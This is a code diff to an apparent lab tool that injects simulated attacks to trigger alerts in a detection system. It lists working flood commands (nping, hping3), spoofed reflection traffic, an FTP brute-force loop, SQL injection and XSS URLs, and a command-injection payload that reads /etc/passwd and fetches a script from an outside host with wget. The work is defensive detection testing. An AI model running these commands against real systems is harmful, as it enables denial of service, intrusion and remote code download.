@@ -1,9 +1,6 @@
 """The kinds of tools/lab --inject: for each kind of alert, what an operator would try to see it."""
 from labkit.attack import Attack
 
-_ODD = "hping3 --fin --push --urg --destport 80 --interval u100000 --count 40 {target}"
-
-
 def _requests(*queries):
     return "; ".join(f"for i in 1 2; do curl --silent --output /dev/null 'http://{{target}}{query}'; done" for query in queries)
 
@@ -14,7 +11,7 @@ INJECTIONS = {injection.name: injection for injection in [
     Attack("syn-flood", "T1498.001", "nping --tcp --flags syn --dest-port 80 --rate 800 --count 6000 -v-1 {target}",
            (("syn_flood", "source"), ("syn_flood", "destination"))),
     Attack("udp-flood", "T1498.001", "hping3 --quiet --udp --destport 9 --data 200 --interval u1000 {target}",
-           (("udp_flood", "source"),), seconds=25),
+           (("udp_flood", "source"),), seconds=25, needs_answers=True),
     Attack("icmp-flood", "T1498.001", "nping --icmp --rate 200 --count 2000 -v-1 {target}", (("icmp_flood", "source"),)),
     Attack("connection-flood", "T1499.001", "nping --tcp-connect --dest-port 80 --rate 200 --count 4000 -v-1 {target}",
            (("connection_flood", "source"),)),
@@ -24,7 +21,7 @@ INJECTIONS = {injection.name: injection for injection in [
            "--dest-port 80 --rate 20 --count 1 -v-1 10.77.2.20-29; done", (("reflection", "destination"),), attacker="forged"),
     Attack("backscatter", "T1498.001", "nping --tcp --flags syn --source-ip {attacker} --source-port 4444 --dest-port 4 --rate 20 "
            "--count 1 -v-1 10.77.2.10-69", (("backscatter", "destination"),), attacker="forged"),
-    Attack("odd-flags", "T1046", _ODD, (("odd_flags", "source"),)),
+    Attack("odd-flags", "T1046", "hping3 --fin --push --urg --destport 80 --interval u100000 --count 40 {target}", (("odd_flags", "source"),)),
     Attack("brute-force", "T1110.001", "for i in $(seq 60); do curl --silent --user root:guess$i ftp://{target}/ & sleep 0.2; done; wait",
            (("brute_force", "source"),)),
     Attack("sqli", "T1190", _requests("/search?q=1%27+OR+%271%27=%271", "/search?q=1+UNION+SELECT+1,2,version%28%29--+"),
@@ -32,9 +29,10 @@ INJECTIONS = {injection.name: injection for injection in [
     Attack("xss", "T1190", _requests("/search?q=%3Cscript%3Ealert%281%29%3C/script%3E"), (("web_attack", "source"),)),
     Attack("shell", "T1190", _requests("/search?q=%3Bcat+/etc/passwd", "/search?q=%60wget+http://{outside}/x.sh%60"),
            (("web_attack", "source"),)),
-    Attack("web-scan", "T1595.003", "for i in $(seq 60); do curl --silent --output /dev/null http://{target}/backup-$i.zip; done", (("web_scan", "source"),)),
+    Attack("web-scan", "T1595.003", "for i in $(seq 60); do curl --silent --output /dev/null http://{target}/backup-$i.zip; done", (("web_scan", "source"),),
+           needs_answers=True),
     Attack("nxdomain", "T1568.002", "for i in $(seq 60); do dig @{resolver} +tries=1 +short $(echo $i | md5sum | cut -c 1-14).test; done",
-           (("dns_nxdomain", "source"),)),
+           (("dns_nxdomain", "source"),), needs_answers=True),
     Attack("dns-tunnel", "T1048.003", "for i in $(seq 150); do dig @{resolver} +tries=1 +short $(echo $i | sha256sum | cut -c 1-56).t.lab.test TXT "
            "& sleep 0.1; done; wait", (("dns_tunnel", "source"),),
            other_end="dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --log-facility=- "
